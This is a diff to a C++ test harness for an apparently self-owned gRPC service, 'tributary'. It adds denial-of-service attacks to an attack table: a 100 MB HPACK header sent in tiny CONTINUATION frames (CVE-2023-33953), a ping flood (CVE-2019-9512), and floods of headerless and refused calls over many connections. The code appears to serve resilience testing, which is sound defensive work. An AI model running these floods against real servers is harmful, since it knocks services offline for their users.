@@ -11,8 +11,8 @@
 namespace tributary::testing {
 namespace {
 
-constexpr char kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kContinuation = 9, kEndHeaders = 4,
-               kEndStream = 1;
+constexpr char kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6, kContinuation = 9,
+               kEndHeaders = 4, kEndStream = 1;
 
 std::string Frame(char type, char flags, std::uint32_t stream, const std::string& payload) {
   std::string frame;
@@ -74,6 +74,19 @@ void ResetStreams(const Target& target, const std::string& path) {
 
 // CVE-2023-33953: a header of 100 MB in frames of a few bytes. gRPC 1.51 copies all that has come of the
 // header at each frame.
+void GrowHeader(const Target& target, RawSocket& socket, std::uint32_t stream) {
+  // A value of 127 + 100,000,000 bytes, as HPACK's integer.
+  std::string begin = "\x83\x86" + std::string("\0\1x\x7f", 4);
+  std::uint32_t length = 100'000'000;
+  for (; length >= 128; length >>= 7) begin += static_cast<char>(0x80 | (length & 0x7f));
+  begin += static_cast<char>(length);
+  if (!socket.Send(Frame(kHeaders, 0, stream, begin))) return;
+  std::string bytes;
+  for (int i = 0; i < 200; ++i) bytes += Frame(kContinuation, 0, stream, std::string(16, 'a'));
+  while (!target.over && socket.Send(bytes)) {
+  }
+}
+
 void SendEndlessHeader(const Target& target, bool after_a_call) {
   OnConnections(target, [&](RawSocket& socket) {
     std::uint32_t stream = 1;
@@ -86,15 +99,64 @@ void SendEndlessHeader(const Target& target, bool after_a_call) {
       stream += 2;
       std::this_thread::sleep_for(std::chrono::milliseconds(5));
     }
-    // A value of 127 + 100,000,000 bytes, as HPACK's integer.
-    std::string begin = "\x83\x86" + std::string("\0\1x\x7f", 4);
-    std::uint32_t length = 100'000'000;
-    for (; length >= 128; length >>= 7) begin += static_cast<char>(0x80 | (length & 0x7f));
-    begin += static_cast<char>(length);
-    if (!socket.Send(Frame(kHeaders, 0, stream, begin))) return;
+    GrowHeader(target, socket, stream);
+  });
+}
+
+// The same while an upload is open, of which no more than its headers come.
+void SendEndlessHeaderBesideAnUpload(const Target& target) {
+  OnConnections(target, [&](RawSocket& socket) {
+    if (!socket.Send(
+            Frame(kHeaders, kEndHeaders, 1, CallHeaders("/tributary.v1.FederationService/SubmitUpdate"))))
+      return;
+    std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    GrowHeader(target, socket, 3);
+  });
+}
+
+// Whole calls with these headers, as fast as they can be sent.
+template <class AnySocket>
+void Call(const Target& target, AnySocket& socket, const std::string& headers, std::uint32_t most) {
+  std::uint32_t stream = 1;
+  for (bool open = true; open && !target.over && stream < 2 * most;) {
     std::string bytes;
-    for (int i = 0; i < 200; ++i) bytes += Frame(kContinuation, 0, stream, std::string(16, 'a'));
-    while (!target.over && socket.Send(bytes)) {
+    for (int i = 0; i < 100; ++i, stream += 2)
+      bytes += Frame(kHeaders, kEndHeaders | kEndStream, stream, headers);
+    open = socket.Send(bytes);
+  }
+}
+
+// gRPC answers these by itself: neither gate nor service sees them.
+void CallNoPathOnManyConnections(const Target& target) {
+  const std::string headers = "\x83\x86" + Literal("te", "trailers");
+  std::vector<std::jthread> connections;
+  for (int i = 0; i < 40; ++i) {
+    connections.emplace_back(
+        [&] { OnConnections(target, [&](RawSocket& socket) { Call(target, socket, headers, 1'000'000); }); });
+  }
+}
+
+// The gate refuses them, and each connection has made no other call when it ends.
+void CallWhatIsRefused(const Target& target) {
+  const TlsIdentity identity(target);
+  if (!identity.ok()) return;  // nothing is refused, so nothing passes
+  const std::string headers = CallHeaders("/tributary.v1.FusionService/Watch");
+  std::vector<std::jthread> connections;
+  for (int i = 0; i < 40; ++i) {
+    connections.emplace_back([&] {
+      OnConnections(
+          target, [&] { return TlsSocket(target.port, identity); },
+          [&](TlsSocket& socket) { Call(target, socket, headers, 500); });
+    });
+  }
+}
+
+// CVE-2019-9512: gRPC answers each ping by itself, and nobody reads the answers.
+void SendPings(const Target& target) {
+  std::string bytes;
+  for (int i = 0; i < 1000; ++i) bytes += Frame(kPing, 0, 0, std::string(8, 'p'));
+  OnConnections(target, [&](RawSocket& socket) {
+    while (!target.over && socket.SendOnly(bytes)) {
     }
   });
 }
@@ -145,6 +207,10 @@ constexpr Attack kAttacks[] = {
      [](const Target& target) { ResetStreams(target, "/tributary.v1.FusionService/Report"); }},
     {"reset_list_nodes",
      [](const Target& target) { ResetStreams(target, "/tributary.v1.FleetService/ListNodes"); }},
+    {"quadratic_headers_beside_an_upload", SendEndlessHeaderBesideAnUpload},
+    {"calls_without_a_path", CallNoPathOnManyConnections},
+    {"refused_calls", CallWhatIsRefused},
+    {"pings", SendPings},
     {"half_calls", OpenHalfCallsOnManyConnections},
     {"half_calls_of_a_node", OpenHalfCallsOfANode},
     {"quadratic_headers", [](const Target& target) { SendEndlessHeader(target, false); }},
